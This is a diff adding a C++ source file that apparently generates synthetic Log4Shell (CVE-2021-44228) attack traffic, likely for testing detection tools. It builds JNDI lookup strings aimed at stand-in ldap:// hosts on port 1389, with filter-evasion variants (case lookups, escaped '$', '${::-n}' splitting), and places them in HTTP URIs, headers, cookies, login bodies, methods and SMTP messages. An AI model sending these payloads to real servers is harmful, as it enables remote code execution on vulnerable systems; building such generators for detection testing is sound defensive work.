@@ -1,0 +1,103 @@
+#include "traffic/obfuscation.h"
+
+#include <array>
+#include <cstdio>
+
+#include "net/http.h"
+#include "traffic/payload.h"
+
+namespace cvewb::traffic {
+
+namespace {
+
+using data::InjectionContext;
+using data::MatchKind;
+
+std::string exfil_host(util::Rng& rng) {
+  return "203.0.113." + std::to_string(rng.uniform_int(1, 254)) + ":1389";
+}
+
+}  // namespace
+
+std::string percent_encode(std::string_view s) {
+  std::string out;
+  for (char c : s) {
+    const auto u = static_cast<unsigned char>(c);
+    const bool safe = (u >= 'a' && u <= 'z') || (u >= 'A' && u <= 'Z') || (u >= '0' && u <= '9') ||
+                      c == '-' || c == '.' || c == '_' || c == '~' || c == '/';
+    if (safe) {
+      out.push_back(c);
+    } else {
+      char buf[4];
+      std::snprintf(buf, sizeof buf, "%%%02X", u);
+      out += buf;
+    }
+  }
+  return out;
+}
+
+std::string log4shell_injection(const data::Log4ShellVariant& variant, util::Rng& rng) {
+  const std::string target = "ldap://" + exfil_host(rng) + "/Basic/Command";
+  const bool escape_dollar = variant.adaptation == "Escape sequence for $";
+  const bool escape_jndi = variant.adaptation == "Escape sequence for jndi";
+  switch (variant.match) {
+    case MatchKind::kLower:
+      if (escape_dollar) return "$%7Blower:j%7Dndi:" + target;
+      return "${${lower:j}ndi:${lower:l}dap://" + exfil_host(rng) + "/a}";
+    case MatchKind::kUpper:
+      if (escape_dollar) return "$%7Bupper:j%7Dndi:" + target;
+      return "${${upper:j}ndi:" + target + "}";
+    case MatchKind::kJndi:
+    case MatchKind::kAny:
+      if (escape_jndi) return "${j${::-n}d${::-i}:" + target + "}";
+      return "${jndi:" + target + "}";
+  }
+  return "${jndi:" + target + "}";
+}
+
+std::string log4shell_payload(const data::Log4ShellVariant& variant, util::Rng& rng) {
+  const std::string injection = log4shell_injection(variant, rng);
+
+  if (variant.context == InjectionContext::kSmtp) {
+    // Extraneous ignored text before the lookup defeats anchored matches.
+    return "EHLO scanner.example\r\nMAIL FROM:<probe@scanner.example>\r\nRCPT TO:<x" + injection +
+           "@victim.example>\r\nDATA\r\nSubject: " + injection + "\r\n.\r\nQUIT\r\n";
+  }
+
+  net::HttpRequest req;
+  req.add_header("Host", "198.51.100." + std::to_string(rng.uniform_int(1, 254)));
+  switch (variant.context) {
+    case InjectionContext::kHttpUri:
+      req.uri = "/?x=" + percent_encode(injection);
+      req.add_header("User-Agent", scanner_user_agent(rng));
+      break;
+    case InjectionContext::kHttpHeader: {
+      static constexpr std::array<const char*, 4> kHeaders = {"User-Agent", "X-Api-Version",
+                                                              "Referer", "X-Forwarded-For"};
+      req.uri = "/";
+      req.add_header(kHeaders[rng.uniform_u64(kHeaders.size())], injection);
+      break;
+    }
+    case InjectionContext::kHttpBody:
+      req.method = "POST";
+      req.uri = "/login";
+      req.add_header("User-Agent", scanner_user_agent(rng));
+      req.add_header("Content-Type", "application/x-www-form-urlencoded");
+      req.body = "username=" + injection + "&password=probe";
+      break;
+    case InjectionContext::kHttpCookie:
+      req.uri = "/";
+      req.add_header("User-Agent", scanner_user_agent(rng));
+      req.add_header("Cookie", "JSESSIONID=" + injection);
+      break;
+    case InjectionContext::kHttpMethod:
+      req.method = injection;  // yes, scanners really did this
+      req.uri = "/";
+      break;
+    case InjectionContext::kSmtp:
+      break;  // handled above
+  }
+  return req.serialize();
+}
+
+}  // namespace cvewb::traffic
